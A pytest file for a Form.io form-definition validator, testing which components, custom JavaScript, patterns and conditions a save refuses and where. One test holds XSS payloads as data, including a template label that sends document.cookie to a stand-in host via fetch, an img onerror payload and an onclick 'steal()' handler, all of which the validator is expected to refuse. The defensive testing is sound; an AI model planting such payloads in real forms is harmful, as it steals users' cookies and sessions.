"""What a save refuses, each refusal pointing at the offending member of the definition."""

from __future__ import annotations

from typing import Any

import pytest

from actors.forms import DefinitionError, check_definition, validate_submission
from tests.actors.forms.helpers import field, form

CHOICES = [{"label": "Α", "value": "a"}]


def refusals(definition: dict[str, Any]) -> list[tuple[str, str]]:
    return [(error.path, error.type) for error in check_definition(definition)]


def test_every_supported_component_type_is_accepted() -> None:
    definition = form(
        {
            "type": "panel",
            "key": "panel",
            "components": [
                field("textfield", "textfield"),
                field("textarea", "textarea"),
                field("number", "number"),
                field("currency", "currency"),
                field("email", "email"),
                field("phoneNumber", "phone", inputMask="(999) 999-9999"),
                field("checkbox", "checkbox"),
                field("select", "select", dataSrc="values", data={"values": CHOICES}),
                field("radio", "radio", values=CHOICES),
                field("selectboxes", "selectboxes", values=CHOICES),
                field("datetime", "datetime", widget={"type": "calendar", "minDate": None, "maxDate": None}),
                field("day", "day", fields={"day": {"hide": False}, "year": {"minYear": ""}}),
                field("file", "file", storage="base64"),
                field("hidden", "hidden"),
            ],
        },
        {"type": "fieldset", "key": "fieldset", "input": False, "components": [field("textfield", "inFieldset")]},
        {"type": "columns", "key": "columns", "columns": [{"components": [field("textfield", "inColumn")]}]},
        {"type": "table", "key": "table", "rows": [[{"components": [field("textfield", "inCell")]}]]},
        {"type": "well", "key": "well", "components": [field("textfield", "inWell")]},
        field("container", "container", components=[field("textfield", "textfield")]),
        field("datagrid", "datagrid", components=[field("textfield", "textfield")]),
        field("editgrid", "editgrid", components=[field("textfield", "textfield")]),
        {"type": "content", "key": "content", "html": "<p>Οδηγίες</p>", "input": False},
        {"type": "htmlelement", "key": "html", "tag": "p", "content": "", "input": False},
        {"type": "button", "key": "submit", "action": "submit", "input": True},
    )
    assert check_definition(definition) == []


def test_builder_defaults_are_not_refused() -> None:
    # what Form.io's builder saves for settings left untouched
    component = field(
        "textfield",
        "name",
        validate={
            "required": False,
            "minLength": "",
            "maxLength": "",
            "pattern": "",
            "custom": "",
            "customPrivate": False,
            "json": "",
            "unique": False,
            "multiple": False,
        },
        conditional={"show": None, "when": None, "eq": "", "json": ""},
        customConditional="",
        calculateValue="",
        customDefaultValue="",
        logic=[],
        inputMask="",
    )
    assert check_definition(form(component)) == []


REFUSALS: list[tuple[str, dict[str, Any], list[tuple[str, str]]]] = [
    (
        "unknown type in a panel",
        form({"type": "panel", "key": "p", "components": [field("textfield", "a"), field("signature", "s")]}),
        [("/components/0/components/1/type", "unsupported_component")],
    ),
    ("missing type", form({"key": "x", "input": True}), [("/components/0/type", "unsupported_component")]),
    ("missing key", form({"type": "textfield", "label": "Όνομα"}), [("/components/0/key", "missing_key")]),
    ("dotted key", form(field("textfield", "applicant.name")), [("/components/0/key", "invalid_key")]),
    (
        "duplicate through a layout",
        form(field("textfield", "afm"), {"type": "panel", "key": "p", "components": [field("number", "afm")]}),
        [("/components/1/components/0/key", "duplicate_key")],
    ),
    (
        "duplicate inside a column",
        form(
            {
                "type": "columns",
                "key": "c",
                "columns": [{"components": [field("textfield", "a")]}, {"components": [field("textfield", "a")]}],
            }
        ),
        [("/components/0/columns/1/components/0/key", "duplicate_key")],
    ),
    (
        "duplicate inside a grid",
        form(field("datagrid", "g", components=[field("textfield", "a"), field("textfield", "a")])),
        [("/components/0/components/1/key", "duplicate_key")],
    ),
    (
        "custom conditional",
        form(field("textfield", "a", customConditional="show = true;")),
        [("/components/0/customConditional", "custom_javascript")],
    ),
    (
        "custom validation",
        form(field("textfield", "a", validate={"custom": "valid = input.length > 2;"})),
        [("/components/0/validate/custom", "custom_javascript")],
    ),
    (
        "calculated value",
        form(field("number", "a", calculateValue="value = 1;")),
        [("/components/0/calculateValue", "custom_javascript")],
    ),
    (
        "calculated by json logic",
        form(field("number", "a", calculateValue={"+": [1, 2]})),
        [("/components/0/calculateValue", "unsupported_feature")],
    ),
    (
        "custom default",
        form(field("textfield", "a", customDefaultValue="value = 'x';")),
        [("/components/0/customDefaultValue", "custom_javascript")],
    ),
    (
        "field logic",
        form(field("textfield", "a", logic=[{"name": "l", "trigger": {}, "actions": []}])),
        [("/components/0/logic", "unsupported_feature")],
    ),
    (
        "multiple checkbox",
        form(field("checkbox", "a", multiple=True)),
        [("/components/0/multiple", "unsupported_feature")],
    ),
    (
        "invalid pattern",
        form(field("textfield", "a", validate={"pattern": "[0-9"})),
        [("/components/0/validate/pattern", "invalid_pattern")],
    ),
    (
        "python-only pattern",
        form(field("textfield", "a", validate={"pattern": r"(?i)abc"})),
        [("/components/0/validate/pattern", "invalid_pattern")],
    ),
    (
        "javascript-only escape",
        form(field("textfield", "a", validate={"pattern": r"\Aabc"})),
        [("/components/0/validate/pattern", "invalid_pattern")],
    ),
    (
        "unique",
        form(field("textfield", "a", validate={"unique": True})),
        [("/components/0/validate/unique", "unsupported_validator")],
    ),
    (
        "unique",
        form(field("textfield", "a", unique=True)),
        [("/components/0/unique", "unsupported_validator")],
    ),
    (
        "date limit as an expression",
        form(field("datetime", "a", widget={"maxDate": "moment().add(1, 'day')"})),
        [("/components/0/widget/maxDate", "unsupported_validator")],
    ),
    (
        "year limit on the year field only",
        form(field("day", "a", fields={"year": {"minYear": 1900}})),
        [("/components/0/fields/year/minYear", "unsupported_validator")],
    ),
    (
        "JSON options of objects without valueProperty",
        form(field("select", "a", dataSrc="json", data={"json": [{"id": 1}]})),
        [("/components/0/data/json", "invalid_definition")],
    ),
    (
        "day year limit",
        form(field("day", "a", fields={"year": {"maxYear": 2030}})),
        [("/components/0/fields/year/maxYear", "unsupported_validator")],
    ),
    (
        "textfield mask syntax",
        form(field("textfield", "a", inputMask="[999] 999")),
        [("/components/0/inputMask", "unsupported_validator")],
    ),
    (
        "multiple masks",
        form(field("textfield", "a", allowMultipleMasks=True)),
        [("/components/0/allowMultipleMasks", "unsupported_validator")],
    ),
    (
        "select from url",
        form(field("select", "a", dataSrc="url", data={"url": "https://example.org"})),
        [("/components/0/dataSrc", "unsupported_data_source")],
    ),
    (
        "radio from url",
        form(field("radio", "a", dataSrc="url")),
        [("/components/0/dataSrc", "unsupported_data_source")],
    ),
    (
        "select without values",
        form(field("select", "a", data={})),
        [("/components/0/data/values", "invalid_definition")],
    ),
    (
        "checkbox as radio",
        form(field("checkbox", "a", inputType="radio", name="group")),
        [("/components/0/inputType", "unsupported_component")],
    ),
    (
        "json logic with a Form.io-only operator",
        form(
            field("textfield", "a", validate={"json": {"and": [{"var": "data.a"}, {"_isEmpty": [{"var": "data.b"}]}]}})
        ),
        [("/components/0/validate/json/and/1/_isEmpty", "invalid_json_logic")],
    ),
    (
        "conditional json with an unknown operator",
        form(field("textfield", "a"), field("textfield", "b", conditional={"json": {"getDate": [{"var": "data.a"}]}})),
        [("/components/1/conditional/json/getDate", "invalid_json_logic")],
    ),
    (
        "json logic as a string",
        form(field("textfield", "a", validate={"json": '{"==": [1, 1]}'})),
        [("/components/0/validate/json", "invalid_json_logic")],
    ),
    (
        "unknown condition operator",
        form(
            field("textfield", "a"),
            field(
                "textfield",
                "b",
                conditional={
                    "show": True,
                    "conjunction": "all",
                    "conditions": [{"component": "a", "operator": "matches", "value": "x"}],
                },
            ),
        ),
        [("/components/1/conditional/conditions/0/operator", "unsupported_condition")],
    ),
    (
        "condition on no component",
        form(
            field(
                "textfield",
                "b",
                conditional={
                    "show": True,
                    "conjunction": "all",
                    "conditions": [{"component": "nope", "operator": "isEmpty"}],
                },
            )
        ),
        [("/components/0/conditional/conditions/0/component", "unknown_reference")],
    ),
    (
        "legacy condition on no component",
        form(field("textfield", "b", conditional={"show": True, "when": "nope", "eq": "x"})),
        [("/components/0/conditional/when", "unknown_reference")],
    ),
    ("components not a list", {"components": {"a": 1}}, [("/components", "invalid_definition")]),
    (
        "nested deep",
        form(
            {
                "type": "panel",
                "key": "p",
                "components": [
                    field(
                        "container",
                        "c",
                        components=[
                            {
                                "type": "table",
                                "key": "t",
                                "rows": [
                                    [{}, {"components": [field("textfield", "x", validate={"custom": "valid = 1"})]}]
                                ],
                            }
                        ],
                    )
                ],
            }
        ),
        [("/components/0/components/0/components/0/rows/0/1/components/0/validate/custom", "custom_javascript")],
    ),
]


@pytest.mark.parametrize(("definition", "expected"), [case[1:] for case in REFUSALS], ids=[c[0] for c in REFUSALS])
def test_refusals_point_at_the_definition(definition: dict[str, Any], expected: list[tuple[str, str]]) -> None:
    assert refusals(definition) == expected


def test_same_key_in_different_data_objects_is_fine() -> None:
    definition = form(
        field("textfield", "name"),
        field("container", "spouse", components=[field("textfield", "name")]),
        field("datagrid", "children", components=[field("textfield", "name")]),
    )
    assert check_definition(definition) == []


def test_conditions_may_name_components_by_key_path_or_full_path() -> None:
    definition = form(
        {
            "type": "panel",
            "key": "page1",
            "components": [field("container", "applicant", components=[field("radio", "type", values=CHOICES)])],
        },
        field("textfield", "a", conditional={"show": True, "when": "type", "eq": "a"}),
        field("textfield", "b", conditional={"show": True, "when": "applicant.type", "eq": "a"}),
        field("textfield", "c", conditional={"show": True, "when": "page1.applicant.type", "eq": "a"}),
        field("selectboxes", "docs", values=CHOICES),
        field(
            "textfield",
            "d",
            conditional={
                "show": True,
                "conjunction": "all",
                "conditions": [{"component": "docs.a", "operator": "isEqual", "value": True}],
            },
        ),
    )
    assert check_definition(definition) == []


def test_validating_against_a_refused_definition_raises() -> None:
    with pytest.raises(DefinitionError) as raised:
        validate_submission(form(field("textfield", "a", validate={"custom": "valid = false"})), {"a": "x"})
    assert [error.path for error in raised.value.errors] == ["/components/0/validate/custom"]


def test_what_would_run_in_the_browser_is_refused_where_it_is() -> None:
    """Form.io evaluates templates as JavaScript, writes `attrs` onto elements and shows labels, descriptions and
    messages as HTML, in every browser that renders the form."""
    definition = form(
        field("textfield", "name", label="Όνομα {{ fetch('//evil.example?c=' + document.cookie) }}"),
        field(
            "textfield", "afm", description="<img src=x onerror=alert(1)>", attrs=[{"attr": "onfocus", "value": "x"}]
        ),
        field("number", "copies", validate={"customMessage": "<b>Λάθος</b>"}, errors={"required": "{% print(1) %}"}),
        field("select", "kind", data={"values": [{"label": "<script>x</script>", "value": "a"}]}),
        {"type": "content", "key": "intro", "html": '<p onclick="steal()">Οδηγίες</p>', "input": False},
        {"type": "htmlelement", "key": "note", "tag": "script", "content": "", "input": False},
    )

    assert sorted(refusals(definition)) == sorted([
        ("/components/0/label", "template"),
        ("/components/1/description", "markup"),
        ("/components/1/attrs", "raw_attributes"),
        ("/components/2/validate/customMessage", "markup"),
        ("/components/2/errors/required", "template"),
        ("/components/3/data/values/0/label", "markup"),
        ("/components/4/html", "unsafe_html"),
        ("/components/5/tag", "unsafe_html"),
    ])  # fmt: skip


def test_plain_text_simple_html_patterns_and_masks_are_accepted() -> None:
    definition = form(
        field("textfield", "name", label="Όνομα < 50 χαρακτήρες", description="π.χ. Ελένη & Νίκος"),
        field("textfield", "code", validate={"pattern": "^(?<year>\\d{4})-[A-Z]{2,3}$"}),
        field("phoneNumber", "phone", inputMask="(999) 999-9999"),
        {"type": "content", "key": "intro", "input": False,
         "html": '<p>Διαβάστε τις <a href="https://www.gov.gr">οδηγίες</a> πριν <strong>υποβάλετε</strong>.</p>'},
        {"type": "htmlelement", "key": "note", "tag": "h3", "content": "Στοιχεία αιτούντος", "input": False},
    )  # fmt: skip
    assert refusals(definition) == []
